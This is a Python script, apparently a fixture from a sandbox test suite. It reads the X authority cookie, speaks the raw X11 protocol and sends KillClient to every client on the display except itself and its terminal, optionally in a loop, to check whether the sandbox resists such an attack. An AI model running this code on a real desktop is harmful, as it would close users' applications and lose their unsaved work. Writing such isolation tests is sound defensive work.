# Typed into a desktop's terminal by tests/local_gym/test_sandbox.py (issue 80's attack): the X server's clients
# (X-Resource's list when the server shows it, and every client id base) each get a KillClient, over the raw X
# protocol (no python-xlib in the sandbox), sparing itself and its terminal ($WINDOWID) so that it lives on. With
# X_KILL_LOOP set it goes on, round after round, until ~/stop exists (at most 20 s). It reports into ~/xkill.txt.
import os, signal, socket, struct, time
signal.signal(signal.SIGHUP, signal.SIG_IGN)
out = open(os.path.expanduser("~/xkill.txt"), "w", buffering=1)
n = os.environ["DISPLAY"].lstrip(":").split(".")[0]
name = data = b""
path = os.environ.get("XAUTHORITY", "")
blob = open(path, "rb").read() if os.path.isfile(path) else b""
i = 0
while i + 2 <= len(blob):
    fields = []
    i += 2
    for _ in range(4):
        size = struct.unpack(">H", blob[i:i + 2])[0]
        fields.append(blob[i + 2:i + 2 + size])
        i += 2 + size
    if fields[1] in (n.encode(), b""):
        name, data = fields[2], fields[3]
s = socket.socket(socket.AF_UNIX)
s.connect("/tmp/.X11-unix/X" + n)
pad = lambda b: b + bytes(-len(b) % 4)
s.sendall(struct.pack("<BxHHHHxx", 0x6C, 11, 0, len(name), len(data)) + pad(name) + pad(data))
def recv(k):
    got = b""
    while len(got) < k:
        chunk = s.recv(k - len(got))
        if not chunk:
            raise SystemExit(out.write("closed by the server\ndone\n"))
        got += chunk
    return got
head = recv(8)
body = recv(struct.unpack("<H", head[6:8])[0] * 4)
if head[0] != 1:
    raise SystemExit(out.write(f"refused: {body[:60]!r}\ndone\n"))
base, mask = struct.unpack("<II", body[4:12])
out.write(f"connected with a cookie of {len(data)} bytes\n")
bases = set()
ext = b"X-Resource"
s.sendall(struct.pack("<BxHHxx", 98, 2 + len(pad(ext)) // 4, len(ext)) + pad(ext))
reply = recv(32)
if reply[8]:
    s.sendall(struct.pack("<BBH", reply[9], 1, 1))
    reply = recv(32)
    pairs = recv(struct.unpack("<I", reply[8:12])[0] * 8)
    bases = {struct.unpack("<I", pairs[j:j + 4])[0] for j in range(0, len(pairs), 8)}
out.write(f"X-Resource listed {len(bases)} clients\n")
bases |= {k * (mask + 1) for k in range(1, 0x20000000 // (mask + 1))}
bases -= {base, int(os.environ.get("WINDOWID", "0")) & ~mask}
kills = b"".join(struct.pack("<BxHI", 113, 2, b) for b in sorted(bases)) + struct.pack("<BxH", 43, 1)
loop, stop, rounds, errors = bool(os.environ.get("X_KILL_LOOP")), os.path.expanduser("~/stop"), 0, {}
deadline = time.monotonic() + 20
while True:
    s.sendall(kills)
    rounds += 1
    if rounds == 1:
        out.write(f"sent {len(bases)} KillClient\n" + ("looping\n" if loop else ""))
    while (answer := recv(32))[0] != 1:   # errors until GetInputFocus's reply: 10 BadAccess, 2 BadValue (no client)
        errors[answer[1]] = errors.get(answer[1], 0) + 1
    if not loop or os.path.exists(stop) or time.monotonic() > deadline:
        break
refused = sum(errors.values())
out.write(f"{rounds} rounds, {rounds * len(bases) - refused} killed, {errors.get(10, 0)} refused (BadAccess), "
          f"{errors.get(2, 0)} no such client\ndone\n")
